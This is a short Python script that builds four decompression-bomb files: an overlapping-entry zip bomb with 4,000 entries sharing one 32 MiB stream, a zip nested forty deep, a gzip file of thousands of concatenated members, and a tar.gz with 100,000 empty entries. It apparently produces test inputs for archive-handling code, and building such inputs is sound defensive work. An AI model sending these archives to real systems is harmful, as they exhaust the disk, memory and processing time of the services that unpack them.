"""Archives that cost more to read than to send: overlap.py FOLDER."""

import gzip
import io
import struct
import sys
import tarfile
import zipfile
import zlib

folder = sys.argv[1]
LINE = b'"worker-1" #1 prio=5 os_prio=0 tid=0x1 nid=0x1 waiting on condition\n   java.lang.Thread.State: WAITING\n\n'
ENTRIES, EACH = 4000, 32 << 20


def deflated(size):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = LINE * 1000
    out, left = [], size
    crc = 0
    while left > 0:
        now = piece[:left]
        crc = zlib.crc32(now, crc)
        out.append(packer.compress(now))
        left -= len(now)
    return b"".join(out) + packer.flush(), crc


def overlapping(path):
    """All entries of the directory lead to the same local header."""
    data, crc = deflated(EACH)
    name = b"dump.txt"
    out = io.BytesIO()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), EACH, len(name), 0) + name + data)
    begin = out.tell()
    for number in range(ENTRIES):
        own = b"d%07d.txt" % number
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), EACH, len(own), 0, 0, 0, 0, 0, 0
            )
            + own
        )
    end = out.tell()
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, ENTRIES, ENTRIES, end - begin, begin, 0))
    with open(path, "wb") as file:
        file.write(out.getvalue())


def deep(path):
    """A zip in a zip, forty deep, each ten times as large."""
    inner = LINE * 100_000
    name = "dump.txt"
    for depth in range(40):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(10 if len(inner) < 1 << 20 else 2):
                archive.writestr(f"{copy}/{name}", inner)
        inner, name = out.getvalue(), f"{depth}.zip"
    with open(path, "wb") as file:
        file.write(inner)


def many_gzip(path):
    """Members of gzip one behind the other, each of nothing or of very much."""
    much = gzip.compress(LINE * (EACH // len(LINE)), 9)
    nothing = gzip.compress(b"", 9)
    with open(path, "wb") as file:
        for _ in range(2000):
            file.write(much + nothing * 100)


def many_names(path):
    """A hundred thousand entries of nothing."""
    with tarfile.open(path, "w:gz") as archive:
        for number in range(100_000):
            archive.addfile(tarfile.TarInfo(f"{number % 7}/" * 20 + str(number)))


overlapping(folder + "/overlap.zip")
deep(folder + "/deep.zip")
many_gzip(folder + "/gzip.txt.gz")
many_names(folder + "/tar.tar.gz")
